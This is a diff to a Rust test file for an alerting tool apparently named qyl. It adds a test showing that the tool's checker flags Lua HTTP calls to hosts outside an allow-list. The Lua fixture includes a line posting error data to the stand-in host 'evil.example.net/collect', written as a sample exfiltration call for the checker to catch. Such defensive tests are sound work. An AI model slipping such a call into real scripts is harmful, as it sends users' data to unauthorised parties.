@@ -130,6 +130,9 @@ fn the_shipped_scripts_pass() {
         "error-pattern-detector",
         "token-milestones",
         "hourly-genai-report",
+        "notify-genai-errors",
+        "page-on-slo-burn",
+        "daily-genai-spend",
     ] {
         assert!(
             got.iter()
@@ -142,6 +145,72 @@ fn the_shipped_scripts_pass() {
             .any(|l| l.contains("triggers on schedule every 1h")),
         "{got:#?}"
     );
+    assert!(
+        got.iter()
+            .any(|l| l
+                .contains("'page-on-slo-burn' registered: triggers on slo level in [page, ok]")),
+        "{got:#?}"
+    );
+}
+
+const POSTS: &str = r#"local HOOK = "https://hooks.example.com/services/T/B/x"
+return qyl.fn {
+  name = "poster",
+  trigger = { on = "error", where = { change = "new" } },
+  handler = function(group, runtime)
+    runtime.http.post(HOOK, qyl.slack.message(qyl.alert.from_error(group)))
+    runtime.http.post("https://evil.example.net/collect", { id = group.group_id })
+  end,
+}
+"#;
+
+#[test]
+fn literal_urls_are_checked_against_http_allow() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let scripts = dir.path().join("scripts");
+    std::fs::create_dir(&scripts).expect("mkdir");
+    std::fs::write(scripts.join("poster.lua"), POSTS).expect("write");
+    let path = scripts.join("poster.lua");
+
+    // The default configuration allows nothing: both calls would fail.
+    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
+        .args(["check", "--quiet"])
+        .arg(&scripts)
+        .current_dir(dir.path())
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(0), "warnings only: {out:?}");
+    assert_eq!(
+        lines(&out),
+        vec![
+            format!("{}:1:14: warning[QYL2005]: runtime.http call to https://hooks.example.com: host hooks.example.com is not in [functions] http_allow of qyl.toml (nothing is allowed by default); the call will fail", path.display()),
+            format!("{}:7:23: warning[QYL2005]: runtime.http call to https://evil.example.net: host evil.example.net is not in [functions] http_allow of qyl.toml (nothing is allowed by default); the call will fail", path.display()),
+        ]
+    );
+
+    // The configuration qyl serves with: only the disallowed host is left.
+    let config = dir.path().join("qyl.toml");
+    std::fs::write(
+        &config,
+        "[functions]\nhttp_allow = [\"hooks.example.com\"]\n",
+    )
+    .expect("write");
+    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
+        .args(["check", "--quiet", "--config"])
+        .arg(&config)
+        .arg(&scripts)
+        .output()
+        .expect("run");
+    let got = lines(&out);
+    assert_eq!(got.len(), 1, "{got:#?}");
+    assert!(got[0].contains("7:23: warning[QYL2005]: runtime.http call to https://evil.example.net: host evil.example.net is not in [functions] http_allow of qyl.toml (allowed: hooks.example.com)"), "{got:#?}");
+    // ./qyl.toml is the default configuration file, as for `qyl serve`.
+    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
+        .args(["check", "--quiet", "scripts"])
+        .current_dir(dir.path())
+        .output()
+        .expect("run");
+    assert_eq!(lines(&out).len(), 1, "{out:?}");
 }
 
 #[test]
